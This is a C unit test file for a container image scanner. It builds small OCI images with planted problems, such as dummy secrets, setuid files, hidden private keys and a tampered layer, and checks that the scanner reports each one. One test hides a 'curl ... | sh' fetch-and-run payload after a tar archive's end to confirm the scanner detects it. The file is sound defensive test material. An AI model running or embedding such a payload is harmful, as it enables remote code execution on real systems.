/* test_scan.c: whole scans of small OCI layouts written by the test: the
 * orchestrator, the merge and the configuration checks together. */
#include "testutil.h"

#include <stddef.h>
#include <string.h>

#include "imagevet/scan.h"
#include "report/report.h"

static const struct ivet_finding *find(const struct ivet_report *r, const char *id, const char *path)
{
    for (size_t i = 0; i < r->findings.n; i++)
        if (!strcmp(r->findings.v[i].id, id) && (!path || (r->findings.v[i].path && !strcmp(r->findings.v[i].path, path))))
            return &r->findings.v[i];
    return NULL;
}

static struct ivet_report *scan_dir(const char *dir, unsigned threads, struct ivet_err *err)
{
    struct ivet_scan_opts o;
    ivet_scan_opts_init(&o);
    char img[4200];
    snprintf(img, sizeof(img), "oci:%s:test", dir);
    o.image = img;
    o.threads = threads;
    o.offline = true;
    o.no_content = true;
    return ivet_scan(&o, err);
}

static const char *cfg_root =
    "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Env\":[\"PATH=/bin\","
    "\"DB_PASSWORD=hunter2-real-value\",\"GPG_KEY=ABCDEF\",\"PASSWORD_FILE=/run/secrets/pw\"],"
    "\"ExposedPorts\":{\"22/tcp\":{}}},"
    "\"history\":[{\"created_by\":\"/bin/sh -c #(nop) ADD file:abc in / \"},"
    "{\"created_by\":\"|1 API_TOKEN=tok_12345678 /bin/sh -c apt-get update && sudo make\"},"
    "{\"created_by\":\"/bin/sh -c rm -rf /root/.ssh\"}]}";

static void test_config_and_hidden_files(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new(), *l1 = tu_tar_new(), *l2 = tu_tar_new();
    tu_tar_add(l0, 'd', "etc", 0755, NULL, 0, NULL);
    static const char passwd[] = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n";
    tu_tar_add(l0, 'f', "etc/passwd", 0644, passwd, sizeof(passwd) - 1, NULL);
    tu_tar_add(l0, 'f', "usr/bin/passwd", 04755, "x", 1, NULL);
    tu_tar_add(l1, 'f', "root/.ssh/id_rsa", 0600, "k", 1, NULL);
    tu_tar_add(l1, 'f', "opt/tool", 04755, "y", 1, NULL);
    tu_tar_add(l2, 'd', "root", 0700, NULL, 0, NULL);
    tu_tar_add(l2, 'f', "root/.wh..ssh", 0, NULL, 0, NULL);
    struct tu_layer ls[3];
    ls[0] = (struct tu_layer){ 0 };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    ls[1] = (struct tu_layer){ 0 };
    ls[1].blob = tu_tar_bytes(l1, &ls[1].len);
    ls[2] = (struct tu_layer){ 0 };
    ls[2].blob = tu_tar_bytes(l2, &ls[2].len);
    char *dir = tu_oci_layout(cfg_root, ls, 3);

    for (unsigned threads = 1; threads <= 2; threads++) {
        struct ivet_err err = IVET_ERR_INIT;
        struct ivet_report *r = scan_dir(dir, threads, &err);
        if (!r)
            fail_msg("scan failed: %s", ivet_err_msg(&err));
        assert_int_equal(r->image.nlayers, 3);
        assert_non_null(find(r, "CONF-USER-ROOT", NULL));
        assert_non_null(find(r, "CONF-NO-HEALTHCHECK", NULL));
        assert_non_null(find(r, "CONF-SSH-PORT", NULL));
        const struct ivet_finding *f = find(r, "CONF-SECRET-ENV", NULL);
        assert_non_null(f);
        assert_non_null(strstr(f->evidence, "DB_PASSWORD="));
        assert_null(strstr(f->evidence, "hunter2-real-value"));    /* redacted */
        assert_null(strstr(f->evidence, "GPG_KEY"));
        f = find(r, "CONF-SECRET-HISTORY", NULL);
        assert_non_null(f);
        assert_null(strstr(f->evidence, "tok_12345678"));
        assert_int_equal(f->layer, 1);
        assert_non_null(find(r, "CONF-UPDATE-ALONE", NULL));
        assert_non_null(find(r, "CONF-SUDO", NULL));
        assert_null(find(r, "CONF-HISTORY-ADD", NULL));             /* base rootfs ADD is fine */
        assert_non_null(find(r, "CONF-SETUID-FILE", "/usr/bin/passwd"));
        assert_non_null(find(r, "CONF-SETUID-UNUSUAL", "/opt/tool"));
        assert_non_null(find(r, "CONF-DUPLICATE-ID", "/etc/passwd"));
        f = find(r, "CONF-PRIVATE-KEY-FILE", "/root/.ssh/id_rsa");
        assert_non_null(f);
        assert_true(f->hidden);                                     /* deleted by layer 2, still shipped */
        assert_int_equal(f->layer, 1);
        assert_int_equal(f->hidden_by, 2);
        assert_false(find(r, "CONF-SETUID-UNUSUAL", "/opt/tool")->hidden);
        assert_int_equal(r->verdict, IVET_VERDICT_FAIL);
        assert_string_equal(ivet_report_verdict(r), "fail");
        assert_int_equal(ivet_report_exit_status(r, IVET_FAIL_ON_FAIL), 1);
        ivet_report_free(r);
    }
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
    tu_tar_free(l1);
    tu_tar_free(l2);
}

static void test_clean_image_passes(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "app/run", 0755, "#!/bin/sh\necho hi\n", 18, NULL);
    struct tu_layer ls[1];
    ls[0] = (struct tu_layer){ 0 };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"10001\","
                              "\"Healthcheck\":{\"Test\":[\"CMD\",\"/app/run\"]},\"Labels\":{"
                              "\"org.opencontainers.image.source\":\"https://example.com/team/app\"}},"
                              "\"history\":[{\"created_by\":\"COPY run /app/run\"}]}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 2, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    for (size_t i = 0; i < r->findings.n; i++)
        print_message("unexpected finding %s %s\n", r->findings.v[i].id, r->findings.v[i].path ? r->findings.v[i].path : "");
    assert_int_equal(r->findings.n, 0);
    assert_int_equal(r->verdict, IVET_VERDICT_PASS);
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
}

/* Bytes after the tar's end-of-archive blocks: every extractor skips them,
 * yet they ship; the layer's digests cover them, so only the tar's own
 * structure tells. */
static void test_bytes_after_the_tar_end_are_reported(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "app/run", 0755, "#!/bin/sh\necho hi\n", 18, NULL);
    size_t len;
    const uint8_t *b = tu_tar_bytes(l0, &len);
    static const char payload[] = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n";
    uint8_t *blob = malloc(len + sizeof(payload));
    memcpy(blob, b, len);
    memcpy(blob + len, payload, sizeof(payload) - 1);
    struct tu_layer ls[1] = { { .blob = blob, .len = len + sizeof(payload) - 1 } };
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"10001\"}}",
                              ls, 1);
    for (unsigned threads = 1; threads <= 2; threads++) {
        struct ivet_err err = IVET_ERR_INIT;
        struct ivet_report *r = scan_dir(dir, threads, &err);
        if (!r)
            fail_msg("scan failed: %s", ivet_err_msg(&err));
        const struct ivet_finding *f = find(r, "CONF-TAR-TRAILING-DATA", NULL);
        assert_non_null(f);
        assert_int_equal(f->layer, 0);
        assert_int_equal(f->severity, IVET_SEV_MEDIUM);
        char want[200];
        snprintf(want, sizeof(want), "layer 0 (%s): %zu bytes after the end-of-archive blocks, %zu of them not zero",
                 r->image.layers[0].digest.text, sizeof(payload) - 1, sizeof(payload) - 1);
        if (!f->evidence || !strstr(f->evidence, want))
            fail_msg("evidence '%s', expected '%s'", f->evidence ? f->evidence : "", want);
        ivet_report_free(r);
    }
    tu_rm_rf(dir);
    free(dir);
    free(blob);
    tu_tar_free(l0);
}

static void test_altered_layer_fails_whole_scan(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "a", 0644, "hello", 5, NULL);
    size_t len;
    const uint8_t *b = tu_tar_bytes(l0, &len);
    uint8_t *copy = malloc(len);
    memcpy(copy, b, len);
    struct tu_layer ls[1] = { { .blob = copy, .len = len, .tar = b, .tar_len = len } };
    copy[600] ^= 1;             /* content byte of "a": the blob digest is of the altered bytes, the diff_id is not */
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{}}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 1, &err);
    assert_null(r);
    assert_int_equal(err.code, IVET_E_DIGEST);
    assert_non_null(strstr(err.msg, "layer 0"));
    ivet_err_release(&err);
    tu_rm_rf(dir);
    free(dir);
    free(copy);
    tu_tar_free(l0);
}

static void test_json_report_shape(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "x/.env", 0600, "A=1\n", 4, NULL);
    struct tu_layer ls[1];
    ls[0] = (struct tu_layer){ 0 };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    char *dir = tu_oci_layout("{\"architecture\":\"arm64\",\"variant\":\"v8\",\"os\":\"linux\",\"config\":{}}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 1, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    json_t *j = ivet_report_to_json(r, &err);
    assert_non_null(j);
    assert_string_equal(json_string_value(json_object_get(j, "schema")), "imagevet/report/v1");
    json_t *img = json_object_get(j, "image");
    assert_string_equal(json_string_value(json_object_get(img, "transport")), "oci");
    assert_true(json_is_string(json_object_get(img, "digest")));
    json_t *l = json_array_get(json_object_get(img, "layers"), 0);
    assert_true(ivet_startswith(json_string_value(json_object_get(l, "digest")), "sha256:"));
    assert_true(ivet_startswith(json_string_value(json_object_get(l, "diff_id")), "sha256:"));
    assert_string_equal(json_string_value(json_object_get(j, "verdict")), "warn");
    json_t *f = json_array_get(json_object_get(j, "findings"), 0);
    assert_string_equal(json_string_value(json_object_get(f, "path")), "/x/.env");
    assert_string_equal(json_string_value(json_object_get(f, "layer")), json_string_value(json_object_get(l, "digest")));
    assert_true(json_is_object(json_object_get(j, "summary")));
    json_decref(j);
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
}

/* SARIF as GitHub code scanning requires it: every rule with id and the
 * three texts, every result with a message, a location (a relative path and
 * a start line), its rule's index and a fingerprint; one result per finding. */
static void test_sarif_report(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "x/.env", 0600, "A=1\n", 4, NULL);
    tu_tar_add(l0, 'f', "y/.env", 0600, "B=2\n", 4, NULL);
    tu_tar_add(l0, 'f', "a b%:c#?\xc3\xa9/.env", 0600, "C=3\n", 4, NULL);
    struct tu_layer ls[1];
    ls[0] = (struct tu_layer){ 0 };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{}}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 1, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    json_t *j = ivet_report_to_sarif(r, &err);
    assert_non_null(j);
    assert_string_equal(json_string_value(json_object_get(j, "version")), "2.1.0");
    assert_true(ivet_startswith(json_string_value(json_object_get(j, "$schema")), "https://"));
    json_t *run = json_array_get(json_object_get(j, "runs"), 0);
    json_t *driver = json_object_get(json_object_get(run, "tool"), "driver");
    assert_string_equal(json_string_value(json_object_get(driver, "name")), "imagevet");
    json_t *rules = json_object_get(driver, "rules"), *results = json_object_get(run, "results"), *e;
    size_t i;
    json_array_foreach(rules, i, e) {
        static const char *const texts[] = { "shortDescription", "fullDescription", "help" };
        assert_true(json_string_length(json_object_get(e, "id")) > 0);
        for (size_t k = 0; k < 3; k++)
            assert_true(json_string_length(json_object_get(json_object_get(e, texts[k]), "text")) > 0);
    }
    assert_int_equal(json_array_size(results), r->findings.n + r->nvulns);
    size_t env = 0;
    json_t *fps = json_object();
    json_array_foreach(results, i, e) {
        const char *id = json_string_value(json_object_get(e, "ruleId"));
        size_t ri = (size_t)json_integer_value(json_object_get(e, "ruleIndex"));
        assert_string_equal(json_string_value(json_object_get(json_array_get(rules, ri), "id")), id);
        assert_true(json_string_length(json_object_get(json_object_get(e, "message"), "text")) > 0);
        json_t *pl = json_object_get(json_array_get(json_object_get(e, "locations"), 0), "physicalLocation");
        const char *uri = json_string_value(json_object_get(json_object_get(pl, "artifactLocation"), "uri"));
        assert_non_null(uri);
        assert_true(uri[0] != '/');
        assert_true(json_integer_value(json_object_get(json_object_get(pl, "region"), "startLine")) >= 1);
        const char *fp = json_string_value(json_object_get(json_object_get(e, "partialFingerprints"),
                                                           "primaryLocationLineHash"));
        assert_non_null(fp);
        assert_null(json_object_get(fps, fp));          /* distinct results, distinct fingerprints */
        json_object_set_new(fps, fp, json_true());
        /* a relative reference of unreserved characters and escapes only */
        assert_true(strspn(uri, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~!$&'()*+,;=@/%") ==
                    strlen(uri));
        if (!strcmp(id, "CONF-CREDENTIAL-FILE")) {
            env++;
            assert_true(!strcmp(uri, "x/.env") || !strcmp(uri, "y/.env") ||
                        !strcmp(uri, "a%20b%25%3Ac%23%3F%C3%A9/.env"));
            assert_string_equal(json_string_value(json_object_get(e, "level")), "warning");
        }
        if (!json_object_get(json_object_get(e, "properties"), "path") ||
            json_is_null(json_object_get(json_object_get(e, "properties"), "path")))
            assert_string_equal(uri, "Dockerfile");     /* image-level findings */
    }
    assert_int_equal(env, 3);
    /* the same findings under another image name keep their fingerprints */
    char *name = r->image.reference;
    r->image.reference = (char *)"elsewhere/other:tag";
    json_t *j2 = ivet_report_to_sarif(r, &err);
    r->image.reference = name;
    json_t *res2 = json_object_get(json_array_get(json_object_get(j2, "runs"), 0), "results");
    json_array_foreach(res2, i, e) {
        const char *fp = json_string_value(json_object_get(json_object_get(e, "partialFingerprints"),
                                                           "primaryLocationLineHash"));
        assert_non_null(json_object_get(fps, fp));
    }
    json_decref(j2);
    /* one rule for the two findings of one check */
    size_t cred_rules = 0;
    json_array_foreach(rules, i, e) {
        cred_rules += !strcmp(json_string_value(json_object_get(e, "id")), "CONF-CREDENTIAL-FILE");
    }
    assert_int_equal(cred_rules, 1);
    json_decref(fps);
    json_decref(j);
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
}

/* JUnit XML: one case for the verdict and one per finding, markup in
 * image-derived text escaped. */
static void test_junit_report(void **state)
{
    (void)state;
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'f', "x<&\">/.env", 0600, "A=1\n", 4, NULL);
    struct tu_layer ls[1];
    ls[0] = (struct tu_layer){ 0 };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{}}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 1, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_int_equal(ivet_report_render(r, "junit", f, false, &err), 0);
    fclose(f);
    char want[64];
    snprintf(want, sizeof(want), "tests=\"%zu\"", r->findings.n + r->nvulns + 1);
    assert_non_null(strstr(buf, want));
    assert_non_null(strstr(buf, "<testcase classname=\"imagevet\" name=\"verdict\">"));
    assert_non_null(strstr(buf, "name=\"CONF-CREDENTIAL-FILE /x&lt;&amp;&quot;&gt;/.env\""));
    assert_null(strstr(buf, "x<&"));
    /* a medium finding fails, a low one does not */
    assert_non_null(strstr(buf, "<failure type=\"medium\" message=\"Credential file shipped in the image\">"));
    assert_non_null(strstr(buf, "<system-out>low: "));
    assert_non_null(strstr(buf, "<system-out>verdict: warn</system-out>"));
    free(buf);
    /* under fail-on warn the exit status is 1: the verdict case fails too */
    ivet_report_set_fail_on(r, IVET_FAIL_ON_WARN);
    buf = NULL;
    f = open_memstream(&buf, &len);
    assert_int_equal(ivet_report_render(r, "junit", f, false, &err), 0);
    fclose(f);
    assert_non_null(strstr(buf, "<failure type=\"verdict\" message=\"the image fails its policy\">verdict: warn"));
    free(buf);
    /* bytes that are not UTF-8 never reach the XML as such */
    ivet_free(r->findings.v[0].path);
    r->findings.v[0].path = ivet_strdup("/bad\xff\xef\xbf\xbe");
    buf = NULL;
    f = open_memstream(&buf, &len);
    assert_int_equal(ivet_report_render(r, "junit", f, false, &err), 0);
    fclose(f);
    assert_non_null(strstr(buf, "/bad\\xff?"));
    assert_null(strstr(buf, "\xff"));
    free(buf);
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
}

/* The image-wide limits stop a scan whatever layer crosses them. */
static void test_image_wide_limits(void **state)
{
    (void)state;
    static const char big[4096];
    struct tu_tar *l0 = tu_tar_new(), *l1 = tu_tar_new();
    tu_tar_add(l0, 'f', "etc/passwd", 0644, "root:x:0:0::/root:/bin/sh\n", 26, NULL);
    tu_tar_add(l0, 'f', "a", 0644, big, sizeof(big), NULL);
    tu_tar_add(l1, 'f', "b", 0644, big, sizeof(big), NULL);
    struct tu_layer ls[2] = { { 0 }, { 0 } };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    ls[1].blob = tu_tar_bytes(l1, &ls[1].len);
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{}}", ls, 2);
    char img[4200];
    snprintf(img, sizeof(img), "oci:%s:test", dir);
    static const struct { const char *name; size_t off; uint64_t max; } cases[] = {
        { "max_image_bytes", offsetof(struct ivet_limits, max_image_bytes), 6000 },
        { "max_image_compressed", offsetof(struct ivet_limits, max_image_compressed), 6000 },
        { "max_image_capture", offsetof(struct ivet_limits, max_image_capture), 10 },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct ivet_scan_opts o;
        ivet_scan_opts_init(&o);
        o.image = img;
        o.offline = true;
        o.no_content = true;
        *(uint64_t *)((char *)&o.limits + cases[i].off) = cases[i].max;
        struct ivet_err err = IVET_ERR_INIT;
        struct ivet_report *r = ivet_scan(&o, &err);
        if (r)
            fail_msg("%s: scan passed", cases[i].name);
        assert_int_equal(err.code, IVET_E_LIMIT);
        assert_non_null(strstr(err.msg, cases[i].name));
        ivet_err_release(&err);
    }
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
    tu_tar_free(l1);
}

/* A setuid file that no package's file list names; merged-/usr paths
 * (/bin -> usr/bin) and apk's F:/R: records count as owned. */
static void test_setuid_files_not_owned_by_a_package(void **state)
{
    (void)state;
    static const char apkdb[] = "P:shadow\nV:1-r0\nF:usr/bin\nR:owned\n\n";
    static const char list[] = "/.\n/bin\n/bin/su\n";
    struct tu_tar *l0 = tu_tar_new();
    tu_tar_add(l0, 'd', "usr/bin", 0755, NULL, 0, NULL);
    tu_tar_add(l0, 'l', "bin", 0777, NULL, 0, "usr/bin");
    tu_tar_add(l0, 'f', "lib/apk/db/installed", 0644, apkdb, sizeof(apkdb) - 1, NULL);
    tu_tar_add(l0, 'f', "var/lib/dpkg/info/login.list", 0644, list, sizeof(list) - 1, NULL);
    tu_tar_add(l0, 'f', "usr/bin/owned", 04755, "x", 1, NULL);
    tu_tar_add(l0, 'f', "usr/bin/su", 04755, "x", 1, NULL);
    tu_tar_add(l0, 'f', "usr/bin/rogue", 04755, "x", 1, NULL);
    struct tu_layer ls[1] = { { 0 } };
    ls[0].blob = tu_tar_bytes(l0, &ls[0].len);
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{}}", ls, 1);
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = scan_dir(dir, 1, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    assert_non_null(find(r, "CONF-SETUID-UNOWNED", "/usr/bin/rogue"));
    assert_null(find(r, "CONF-SETUID-UNOWNED", "/usr/bin/owned"));     /* apk lists it */
    assert_null(find(r, "CONF-SETUID-UNOWNED", "/usr/bin/su"));        /* dpkg lists /bin/su */
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    tu_tar_free(l0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_config_and_hidden_files),
        cmocka_unit_test(test_clean_image_passes),
        cmocka_unit_test(test_bytes_after_the_tar_end_are_reported),
        cmocka_unit_test(test_altered_layer_fails_whole_scan),
        cmocka_unit_test(test_json_report_shape),
        cmocka_unit_test(test_sarif_report),
        cmocka_unit_test(test_junit_report),
        cmocka_unit_test(test_image_wide_limits),
        cmocka_unit_test(test_setuid_files_not_owned_by_a_package),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
